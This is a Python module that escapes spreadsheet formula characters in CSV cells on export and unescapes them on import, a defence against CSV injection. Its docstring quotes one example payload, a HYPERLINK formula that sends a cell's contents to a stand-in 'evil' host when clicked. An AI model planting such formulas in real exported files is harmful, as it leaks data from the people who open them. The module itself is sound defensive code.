"""CSV cells that a spreadsheet opens as text, never as a formula (CSV injection).

Excel, WPS and LibreOffice run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, after
a tab or carriage return, whatever follows) as a formula: a shelter named
``=HYPERLINK("http://evil/?"&A1,"open")`` would leak the sheet when clicked. As the OWASP "CSV
Injection" page recommends, every CSV this package writes (layer exports, import reports) puts a
single quote before such a cell, and the spreadsheet shows the text.

Reading a CSV takes that quote away again, so that exporting and importing gives back the same
names, "-2+3" and "'=x" included: :func:`protect` adds a quote before any text that starts with
quotes and then one of those characters, and :func:`unprotect` removes exactly one from such
text. The price is that a name typed as ``'=x`` in someone else's CSV comes in as ``=x``.
"""

from __future__ import annotations

import re

import pandas as pd

# Optional quotes, then a character a spreadsheet starts a formula with.
_FORMULA_START = re.compile(r"'*[=+\-@\t\r]")


def protect(value: object) -> object:
    """``value`` as a spreadsheet shows it as text: a quote before text that would be read as
    a formula (or that starts with quotes before one); anything else unchanged."""
    if isinstance(value, str) and _FORMULA_START.match(value):
        return "'" + value
    return value


def unprotect(value: object) -> object:
    """The text :func:`protect` was given: one quote fewer before a formula character."""
    if isinstance(value, str) and value.startswith("'") and _FORMULA_START.match(value, 1):
        return value[1:]
    return value


def protect_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy with every text cell and column name protected; numbers stay numbers."""
    out = frame.rename(columns=protect)
    for column in _text_columns(out):
        out[column] = out[column].map(protect)
    return out


def unprotect_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """``frame`` with every text cell and column name unprotected (in place for the cells)."""
    frame.columns = [unprotect(c) for c in frame.columns]
    for column in _text_columns(frame):
        values = frame[column]
        quoted = values.str.startswith("'", na=False)  # cheap first pass over big files
        if quoted.any():
            frame.loc[quoted, column] = values[quoted].map(unprotect)
    return frame


def _text_columns(frame: pd.DataFrame) -> list:
    """Columns that may hold text (string or object), not numbers, flags or times."""
    return [column for column, dtype in frame.dtypes.items()
            if pd.api.types.is_string_dtype(dtype) or pd.api.types.is_object_dtype(dtype)]
